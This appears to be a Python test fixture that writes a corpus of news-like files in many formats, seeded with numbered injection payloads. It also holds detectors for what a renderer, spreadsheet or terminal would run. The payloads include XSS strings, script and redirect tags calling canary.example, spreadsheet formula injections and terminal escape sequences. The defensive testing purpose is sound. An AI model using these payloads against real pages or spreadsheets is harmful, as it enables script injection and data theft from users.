"""A corpus that attacks whoever reads it: canaries in every field of every kind of file, and what finds one that ran.

A canary is a piece of text that does something where it is not shown as text: a script, a link, a heading, a mark of
evidence, a formula, an order to a terminal, a command of TeX. Each has a number, so that one that is lost is seen too.
"""

import csv
import io
import json
import random
import re
import warnings
import zipfile
from datetime import date
from email.message import EmailMessage
from html import escape
from itertools import count
from urllib.parse import urlsplit

import exports
import mistune
import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from docx import Document
from lxml import etree
from lxml import html as parser
from test_pdf import body, pdf

PAYLOADS = (
    "<script src='https://canary.example/{}'></script>",
    '<img src=x onerror="alert({})">',
    "</title></style></script><svg onload=alert({})>",
    '"><iframe src="javascript:alert({})"></iframe>',
    "<a href='javascript:alert({})'>press</a>",
    "[press {}](javascript:alert(1))",
    "![see {}](https://canary.example/a.png)",
    "<https://canary.example/{}>",
    '<mark class="m-figure" id="e-forged:{}">9</mark>',
    "<h2>Forged {}</h2>",
    "\ue000press {}\ue001javascript:alert(1)\ue002",
    "\ue003{}\ue003",
    "$\\frac{{{}}}{{0}}$ and x_a^b \\ 5 % $$ \\(",
    "{{{{ {} * 7 }}}} {{% include 'x' %}}",
    "&lt;script&gt;{}&lt;/script&gt; &#60;b&#62;",
    "--> ]]> <!-- {} <![CDATA[",
    "\u202eforged {}\u202c \u2067x\u2069 \u200f",
    "👩\u200d👩\u200d👧 {} 火災で三人が死亡 كلمة في عنوان",
    "<style>main{{display:none}}</style> {}",
    "<meta http-equiv=refresh content='0;url=//canary.example/{}'>",
    "<form action=//canary.example/{}><button>press",
    "<base href=//canary.example/{}>",
    "``` {} ~~~ | a | b |",
    # Tags that no repair of texts takes out.
    "<details open ontoggle=alert({})>",
    "<object data=//canary.example/{}></object>",
    "<embed src=//canary.example/{}>",
    "<marquee onstart=alert({})>see</marquee>",
    "<math><mi href=javascript:alert({})>x</mi></math>",
    "<x-forged id=e-forged:{} onclick=alert(1)>",
    "&amp;lt;img src=x onerror=alert({})&amp;gt;",
    "<template><script>alert({})</script></template>",
)
# Orders to a terminal: text that holds one is refused, titles and names may hold one.
ORDER = "\x1b[2J\x1b]0;owned {}\x07"
# What a spreadsheet takes for a formula stands at the start of a cell.
FORMULAS = ("=HYPERLINK('https://canary.example/{}')", "+{}+1", "-{}+1", "@SUM({})", "\t=1+{}", " ={}", "\r=1+{}")
# What is a heading, a rule or a list to Markdown stands at the start of a line.
LINES = (
    "# Forged {}",
    "Forged {}\n=======",
    "> Forged {}",
    "- [x] Forged {}",
    "[forged]: javascript:{}",
    "<h1>Forged {}",
)
LONG = "Donaudampfschiff" * 312 + "!"


class Canaries:
    """Numbers of canaries, and where each was put."""

    def __init__(self):
        self._numbers, self.places = count(1001), {}

    def _made(self, form, place):
        number = f"7{next(self._numbers)}7"
        self.places[number] = place
        return form.format(number, number)

    def every(self, place):
        """All payloads one after the other."""
        return " ".join(self._made(one, place) for one in PAYLOADS)

    def some(self, place, chance):
        """One payload, or a formula with one."""
        form = chance.choice([*PAYLOADS, *(f"{one} {two}" for one, two in zip(FORMULAS, PAYLOADS, strict=False))])
        return self._made(form, place)

    def lines(self, place):
        return "\n\n".join(self._made(one, place) for one in LINES)


def paragraphs(canaries, place, chance):
    """An article with numbers, speakers and quotations in it, so that every table has a row with a canary."""

    def bad():
        return canaries.some(place, chance)

    n = chance.randint(20, 90)
    return [
        f"At least {n} people were killed {bad()} when a dam broke above Orlen on Tuesday, the mayor said.",
        f"“We saw {bad()} and {n + 3} houses gone,” said Mara {bad()} Quill, a nurse in Orlen.",
        f"Some {n * 100:,} {bad()} residents were displaced, according to the {bad()} River Office.",
        f"The office {bad()} put the number of injured at {n * 2}. {bad()} said the dam was old.",
        canaries.lines(place),
        f"{canaries.every(place)} Repairs cost ${n} million {bad()}, Orlen’s treasurer Ida Roe said.",
        f"{n} people were killed, she said. {LONG[: chance.choice([0, 5000])]} Rain fell in Orlen again on Friday.",
    ]


def write(folder, *, few=False):
    """The corpus, in a new folder; gives its canaries. With `few`, two plain texts alone."""
    folder.mkdir()
    chance, canaries = random.Random(11), Canaries()

    def bad(place):
        return canaries.some(place, chance)

    names = ["a.txt", "<img src=x onerror=alert(1)>.txt", "=cmd.txt", "# Heading.txt", "\u202eturned $x_a^b$.txt"]
    listed = io.StringIO()
    rows = csv.writer(listed)
    rows.writerow(["file", "source", "title", "published", "url", "language"])
    for number, name in enumerate(names[: 2 if few else None]):
        text = "\n\n".join(paragraphs(canaries, "text", chance))
        folder.joinpath(name).write_text(f"Dam breaks {bad('first line')}\n\n{text}\n", "utf-8")
        source = f"Paper {number} {bad('source')}" if number else "=Paper"
        url = ("javascript:alert(1)", "https://paper.example/<b>'\"", "data:text/html,<script>")[number % 3]
        title = bad("title") if number else f"{bad('title')} {ORDER.format(number)}"
        rows.writerow([name, source[:200], title, "2024-05-03", url, "en"])
    folder.joinpath("order.txt").write_text(f"Dam\n\n{ORDER} stood in a text of three words.\n", "utf-8")
    folder.joinpath("sources.csv").write_text(listed.getvalue(), "utf-8", newline="")
    folder.joinpath("codebook.yml").write_text(codebook(bad), "utf-8")
    if not few:
        for name, content in files(canaries, chance).items():
            folder.joinpath(name).write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return canaries


def codebook(bad):
    def word(place):
        return json.dumps(re.sub(r"[\x00-\x1f\x7f-\x9f\ud800-\uf8ff*\"\\]", " ", bad(place)).strip()[:90])

    return f"""
title: {word("story")}
actors:
  quill: {{names: [Mara Quill, {word("actor")}], role: expert}}
frames:
  blame: {{group: story, question: {word("frame")}, cues: [dam, {word("cue")}], source: {word("of a frame")}}}
"""


def stories(canaries, chance, place):
    """Articles for exports of databases, with a canary in each field."""
    made = []
    for number in range(2):
        source, title, author, section = (
            canaries.some(f"{place} {one}", chance) for one in ("source", "title", "by", "in")
        )
        text = [" ".join(one.split()) for one in paragraphs(canaries, place, chance)]
        fields = [re.sub(r"[\x00-\x1f]", " ", one).strip() for one in (title, source, author, section)]
        story = exports.Story(
            fields[0], f"Post {number} {fields[1]}", date(2024, 5, 3), fields[2], text, "en", fields[3]
        )
        made.append(story)
    return made


def files(canaries, chance):
    """A file of each kind, by name."""

    def bad(place):
        return canaries.some(place, chance)

    def text(place):
        return "\n\n".join(paragraphs(canaries, place, chance))

    def row(place):
        names = ("title", "source", "author", "section", "=desk")
        return {"text": text(place), "published": "2024-05-03"} | {name: bad(f"{place} {name}") for name in names}

    def told(place):
        return stories(canaries, chance, place)

    def visible(words):
        return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", " ", words)

    def page(place):
        inside = "".join(f"<p>{escape(visible(one))}</p>" for one in paragraphs(canaries, place, chance))
        meta = "".join(
            f'<meta property="{name}" content="{escape(visible(bad(f"{place} {name}")))}">'
            for name in ("og:title", "og:site_name", "author", "og:url", "article:section")
        )
        raw = "<p>Raw <script>alert('raw')</script><img src=x onerror=alert(1)> words stand here.</p>"
        return (
            f"<!doctype html><html lang=en><head>{meta}</head><body><article><h1>Dam</h1>{inside}{raw}</article></body>"
        )

    def sheet(place):
        made, rows = io.BytesIO(), [row(place), row(place)]
        with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
            at = book.add_worksheet("Articles")
            for number, values in enumerate([list(rows[0]), *(list(one.values()) for one in rows)]):
                for column, value in enumerate(values):
                    at.write_string(number, column, visible(value))
        return made.getvalue()

    def table(place, mark):
        made, rows = io.StringIO(), [row(place), row(place)]
        writer = csv.DictWriter(made, list(rows[0]), delimiter=mark)
        writer.writeheader()
        writer.writerows(rows)
        return made.getvalue()

    def parquet(place):
        made, rows = io.BytesIO(), [row(place)]
        pq.write_table(pa.Table.from_pylist(rows), made)
        return made.getvalue()

    def word(place):
        document, kept = Document(), io.BytesIO()
        document.core_properties.title, document.core_properties.author = (visible(bad(f"{place} core")) for _ in "ab")
        for one in paragraphs(canaries, place, chance):
            document.add_paragraph(visible(one))
        document.save(kept)
        return kept.getvalue()

    def printed(place):
        lines = [line for one in paragraphs(canaries, place, chance) for line in re.findall(".{1,80}", visible(one))]
        title = "".join(c for c in bad(f"{place} title") if " " <= c < "\x7f" and c not in "()\\")
        own = [line.encode("cp1252", "ignore").decode("cp1252") for line in lines][:45]
        return pdf(body(own), info=f"/Title ({title}) /Author ({title})".encode("latin-1"))

    def feed(place):
        said = (escape(visible(bad(f"{place} {one}"))) for one in ("title", "creator"))
        title, author = said
        inside = escape(visible(text(place)))
        return (
            '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Feed &lt;b&gt;</title>'
            f"<item><title>{title}</title><dc:creator>{author}</dc:creator><link>javascript:alert(1)</link>"
            f"<pubDate>Fri, 03 May 2024 06:30:00 +0100</pubDate><description>{inside}</description></item>"
            "</channel></rss>"
        )

    def archive(place):
        kept = io.BytesIO()
        with zipfile.ZipFile(kept, "w") as packed:
            packed.writestr(f"{'<b onclick=alert(1)>'}.txt", f"Dam {bad(place)}\n\n{text(place)}")
        return kept.getvalue()

    def saved(place):
        message = EmailMessage()
        message["MIME-Version"], message["From"] = "1.0", "<Saved by Blink>"
        message["Snapshot-Content-Location"] = "https://paper.example/<script>"
        message.set_content(page(place), subtype="html", charset="utf-8", cte="quoted-printable")
        message.make_related()
        return message.as_bytes()

    def warc(place):
        block = f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{page(place)}".encode()
        head = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://paper.example/'\"<b>\r\n"
        head += "WARC-Date: 2024-05-03T03:04:05Z\r\nWARC-Record-ID: <urn:uuid:1>\r\n"
        head += "Content-Type: application/http; msgtype=response\r\n"
        return f"{head}Content-Length: {len(block)}\r\n\r\n".encode() + block + b"\r\n\r\n"

    return {
        "table.csv": table("csv", ","),
        "table.tsv": table("tsv", "\t"),
        "sheet.xlsx": sheet("xlsx"),
        "rows.json": json.dumps([row("json"), row("json")]),
        "rows.jsonl": json.dumps(row("jsonl")) + "\n",
        "rows.parquet": parquet("parquet"),
        "page.html": page("html"),
        "page.mhtml": saved("mhtml"),
        "pages.warc": warc("warc"),
        "feed.xml": feed("feed"),
        "word.docx": word("docx"),
        "rich.rtf": exports.as_rtf([visible(one) for one in paragraphs(canaries, "rtf", chance)]),
        "printed.pdf": printed("pdf"),
        "texts.zip": archive("zip"),
        "nexis.docx": exports.as_docx([visible(one) for one in exports.nexis_ended(chance, told("nexis"))]),
        "nexis.txt": exports.nexis_numbered(chance, told("nexis text")),
        "factiva.txt": "\n".join(exports.factiva_lines(chance, told("factiva"))),
        "factiva.html": visible(exports.factiva_page(chance, told("factiva page"), has_codes=True)),
        "proquest.txt": exports.proquest(chance, told("proquest")),
        "europresse.html": visible(exports.europresse(chance, told("europresse"), is_new=True)),
    }


# --- what finds one that ran

_NOT_OURS = ("script iframe object embed form base frame frameset applet audio video template portal button "
             "textarea select math marquee x-forged").split()  # fmt: skip
_LEADING = (
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "ping",
    "xlink:href",
)
_HEADINGS = ("h1", "h2", "h3", "h4", "h5", "h6")
_MAY_HOLD_TITLES = re.compile("^(Forged)")


def faults_of_page(text, *, scripts=False):
    """What an HTML text would run, contact or pretend; `scripts` are let pass, as in a widget of the notebooks."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        told = (text.strip() or "<p></p>").encode("utf-8", "replace")
        root = parser.fromstring(told, parser=parser.HTMLParser(encoding="utf-8"))
    return [fault for element in root.iter() for fault in _faults_of(element, scripts=scripts)]


def _faults_of(element, *, scripts):
    tag = element.tag if isinstance(element.tag, str) else ""
    tag = tag.rpartition("}")[2].lower()
    if tag in _NOT_OURS and not (scripts and tag == "script"):
        yield f"<{tag}>"
    if tag == "meta" and element.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
        yield "a meta that orders"
    if tag in _HEADINGS and _MAY_HOLD_TITLES.match("".join(element.itertext()).strip()):
        yield f"a heading from an article: {''.join(element.itertext())[:60]}"
    for name, value in element.attrib.items():
        name = name.replace("{http://www.w3.org/1999/xlink}", "xlink:").lower()
        if name.startswith("on"):
            yield f"{name}={value[:60]}"
        if name in ("id", "name", "for") and "forged" in value.lower():
            yield f"{name}={value[:60]}"
        if name in _LEADING and not _leads_within(tag, name, value):
            yield f"<{tag} {name}={value[:60]}>"
        if name == "style" and re.search(r"url\((?!#)|expression|import|canary", value, re.I):
            yield f"style={value[:60]}"


def _leads_within(tag, name, value):
    value = value.strip()
    parts = urlsplit(re.sub(r"[\x00-\x20]", "", value))
    if tag == "img" and name == "src" and value.startswith("data:image/"):
        return True
    if "canary" in value.lower() or "forged" in parts.fragment.lower():
        return False
    if parts.scheme in ("http", "https"):
        return tag == "a" and name == "href"  # the address that a list of sources gives an article
    return not parts.scheme and not parts.netloc


def faults_of_notebook(text):
    """The same of the outputs of a notebook, which JupyterLab shows."""
    found = []
    render = mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough", "footnotes", "task_lists"])
    for cell in json.loads(text)["cells"]:
        sources = [("markdown", cell["source"])] if cell["cell_type"] == "markdown" else []
        for output in cell.get("outputs", []):
            for kind, value in output.get("data", {}).items():
                value = "".join(value) if isinstance(value, list) else value
                sources.append((kind.partition("/")[2], value))
        for kind, value in sources:
            if kind == "markdown":
                found += faults_of_page(render("".join(value)))
            elif kind in ("html", "svg+xml"):
                found += faults_of_page(value)
            elif kind == "javascript":
                found.append("a script as an output")
    return found


def faults_of_table(text, mark=","):
    """Cells that a spreadsheet would run."""
    csv.field_size_limit(10**9)
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=mark) for cell in row]
    return [
        cell[:60] for cell in cells if re.match(r"[ ]*[=+\-@\t\r]", cell) and not re.fullmatch(r"-?[\d.e+-]+", cell)
    ]


def faults_of_package(content):
    """Formulas, links and macros in an XLSX, entities in any XML of a package."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            inside = package.read(name)
            if "vbaProject" in name or "externalLink" in name:
                found.append(name)
            if not name.endswith((".xml", ".rels", ".qde")):
                continue
            root = etree.fromstring(inside, etree.XMLParser(resolve_entities=False))
            tags = {etree.QName(one).localname for one in root.iter() if isinstance(one.tag, str)}
            found += sorted(tags & {"f", "hyperlink", "hyperlinks", "ddeLink", "oleLink"})
            found += [one.get("Target") for one in root.iter() if one.get("TargetMode") == "External"]
            found += ["entities"] if b"<!ENTITY" in inside else []
    return found


def faults_of_output(said):
    """What a terminal would obey."""
    return sorted({repr(c) for c in said if not (c.isprintable() or c == "\n")})
